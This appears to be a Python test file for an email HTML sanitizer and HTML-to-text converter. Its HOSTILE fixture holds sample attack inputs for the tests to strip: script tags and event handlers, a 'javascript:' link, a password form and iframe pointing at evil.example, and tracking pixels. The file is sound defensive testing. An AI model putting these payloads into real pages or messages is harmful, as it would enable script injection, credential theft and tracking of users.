from intake.mail.html import html_to_text, sanitize_html

HOSTILE = (
    "<html><head><style>body{background:url(http://t.example/x)}</style></head>"
    '<body onload="steal()"><p onclick="x()">Hi</p>'
    "<script>alert(1)</script>"
    '<img src="https://tracker.example/pixel.gif" onerror="alert(2)">'
    '<img src="cid:logo@example.com" alt="logo">'
    '<a href="javascript:alert(3)">click</a>'
    '<a href="https://example.com/help">help</a>'
    '<form action="https://evil.example"><input name="password"></form>'
    '<iframe src="https://evil.example"></iframe>'
    '<div style="color:red;background-image:url(https://t.example/y);position:fixed">x</div>'
    "<svg><script>alert(4)</script></svg>"
    "</body></html>"
)


def test_sanitize_removes_scripts_handlers_forms_and_frames() -> None:
    clean = sanitize_html(HOSTILE).lower()
    for forbidden in ("<script", "alert", "onload", "onclick", "onerror", "<form", "<input",
                      "<iframe", "javascript:", "<style", "<svg"):  # fmt: skip
        assert forbidden not in clean, forbidden


def test_sanitize_blocks_remote_images_and_css_urls_but_keeps_cid_images() -> None:
    clean = sanitize_html(HOSTILE)
    assert "tracker.example" not in clean
    assert "t.example" not in clean
    assert "position" not in clean
    assert 'src="cid:logo@example.com"' in clean
    assert "color:red" in clean


def test_sanitize_keeps_safe_links_with_noopener() -> None:
    clean = sanitize_html(HOSTILE)
    assert 'href="https://example.com/help"' in clean
    assert "noopener" in clean


def test_html_to_text_keeps_paragraphs_breaks_lists_and_links() -> None:
    html = (
        "<p>Hello <b>there</b>,</p><p>line one<br>line two</p>"
        "<ul><li>first</li><li>second</li></ul><ol><li>a</li><li>b</li></ol>"
        '<p>See <a href="https://example.com/faq">the FAQ</a> or '
        '<a href="mailto:help@example.com">help@example.com</a>.</p>'
    )
    assert html_to_text(html) == (
        "Hello there,\n\nline one\nline two\n\n- first\n- second\n1. a\n2. b\n\n"
        "See the FAQ (https://example.com/faq) or help@example.com."
    )


def test_html_to_text_drops_script_style_and_head_content() -> None:
    text = html_to_text(HOSTILE)
    assert "alert" not in text
    assert "background" not in text
    assert "Hi" in text


def test_html_to_text_decodes_entities_and_collapses_whitespace() -> None:
    assert html_to_text("<div>a&nbsp;&amp;\n\n   b &lt;c&gt;</div>") == "a & b <c>"


def test_html_to_text_keeps_preformatted_lines() -> None:
    assert html_to_text("<pre>a  b\nc</pre>") == "a  b\nc"


def test_html_to_text_puts_table_cells_on_one_line() -> None:
    assert html_to_text("<table><tr><td>Order</td><td>42</td></tr></table>") == "Order\t42"


def test_broken_html_does_not_raise() -> None:
    assert html_to_text("<p><b>unclosed <a href='x").startswith("unclosed")
    assert "unclosed" in sanitize_html("<p><b>unclosed")
